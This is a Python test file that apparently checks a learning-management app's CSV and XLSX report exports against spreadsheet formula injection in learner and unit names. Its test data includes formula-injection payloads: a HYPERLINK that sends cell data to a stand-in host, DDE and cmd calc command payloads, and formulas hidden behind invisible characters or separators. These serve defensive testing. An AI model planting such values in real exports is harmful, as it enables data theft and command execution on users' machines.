"""Names that a spreadsheet would run as formulas stay text in every export: CSV (comma and
semicolon) and XLSX, whatever blank or invisible characters come before the trigger and whatever
separator a spreadsheet splits the line on."""

from __future__ import annotations

import csv
import io
import unicodedata

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from academy.database import db
from academy.learning.models import Enrollment

TRIGGERS = ("=", "+", "-", "@")
BLANKS = (
    " ",
    "\t",
    "\r",
    "\n",
    "\x0b",
    "\xa0",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u3000",
)
PAYLOADS = (
    'HYPERLINK("http://evil.example/?d="&A1;"Bấm")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(1;2)",
    'DDE("cmd";"/C calc";"x")',
)


def visible(cell: str) -> str:
    """The cell as a spreadsheet might read it: leading blanks and invisible characters skipped."""
    index = 0
    while index < len(cell) and (
        cell[index].isspace() or unicodedata.category(cell[index]) in ("Cc", "Cf")
    ):
        index += 1
    return cell[index:]


def runs_as_formula(cell) -> bool:
    return isinstance(cell, str) and visible(cell).startswith(TRIGGERS)


blanks = st.text(alphabet=st.sampled_from(BLANKS), max_size=4)
payloads = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
        max_size=20,
    ),
)
hostile = st.builds(
    lambda blank, trigger, payload: blank + trigger + payload,
    blanks,
    st.sampled_from(TRIGGERS),
    payloads,
)
# a harmless start, then a separator: a spreadsheet splitting on it would see a new cell
hidden = st.builds(
    lambda head, sep, tail: head + sep + tail,
    st.sampled_from(["Nguyễn Văn A", "Phường 1", ""]),
    st.sampled_from([";", ",", "\n", '";', '",']),
    hostile,
)
names = st.one_of(hostile, hidden)


def _download(client, url: str) -> bytes:
    with client.get(url) as response:
        assert response.status_code == 200, url
        return response.get_data()


def _csv_cells(raw: bytes, delimiter: str) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads UTF-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@settings(
    max_examples=25,
    deadline=None,
    database=None,
    suppress_health_check=(HealthCheck.function_scoped_fixture, HealthCheck.too_slow),
)
@given(full_name=names, unit_name=names)
@example(full_name=" =1+1", unit_name="\u200b@SUM(1;2)")
@example(full_name='Nguyễn Văn A;=HYPERLINK("http://evil.example")', unit_name="\ufeff\t-2+3")
@example(full_name="\xa0+cmd|' /C calc'!A0", unit_name="Phường 1,=1+1")
def test_no_export_cell_runs_as_a_formula(
    client, auth, make_user, make_unit, make_course, full_name, unit_name
):
    if not hasattr(client, "course"):
        auth.login(make_user(roles=("admin",)))
        client.course = make_course()
    learner = make_user(full_name=full_name[:200], unit=make_unit(name=unit_name[:200]))
    db.session.add(Enrollment(user_id=learner.id, course_id=client.course.id))
    db.session.commit()

    for url, delimiter, other in (
        ("/reports/completion.csv", ",", ";"),
        ("/reports/completion.csv?sep=semicolon", ";", ","),
    ):
        raw = _download(client, url)
        rows = _csv_cells(raw, delimiter)
        mine = [row for row in rows[1:] if row[1] == learner.employee_code]
        assert len(mine) == 1 and mine[0][2].replace("'", "") == learner.full_name.replace(
            "'", ""
        ), "the name is all there, apostrophes aside"
        assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
        # a spreadsheet splitting the same lines on the other separator finds no formula either
        split = _csv_cells(raw, other)
        assert [cell for row in split for cell in row if runs_as_formula(cell)] == []

    book = load_workbook(io.BytesIO(_download(client, "/reports/completion.xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f" or runs_as_formula(c.value)] == []
    book.close()


def test_semicolon_csv_for_vietnamese_excel(client, auth, city):
    auth.login(city.admin)
    raw = _download(client, "/reports/completion.csv?sep=semicolon")
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith('"Đơn vị";"Mã cán bộ";"Họ và tên"')
    rows = {row[1]: row for row in _csv_cells(raw, ";")[1:]}
    assert (
        rows["CB-ANH"][3] == "'=1+2" and rows["CB-ANH"][8] == "50" and rows["CB-ANH"][9] == "80,0"
    )
    comma = {
        row[1]: row for row in _csv_cells(_download(client, "/reports/completion.csv"), ",")[1:]
    }
    assert comma["CB-ANH"][9] == "80.0", "the default CSV is unchanged"


def test_unknown_separator_is_a_400(client, auth, city):
    auth.login(city.admin)
    assert client.get("/reports/completion.csv?sep=tab").status_code == 400


def test_report_page_links_the_semicolon_csv(client, auth, city):
    auth.login(city.admin)
    page = client.get(f"/reports/completion?unit={city.ben_nghe.id}&sep=semicolon").get_data(
        as_text=True
    )
    assert "CSV (Excel tiếng Việt, dấu ;)" in page
    assert f"/reports/completion.csv?unit={city.ben_nghe.id}&amp;sep=semicolon" in page
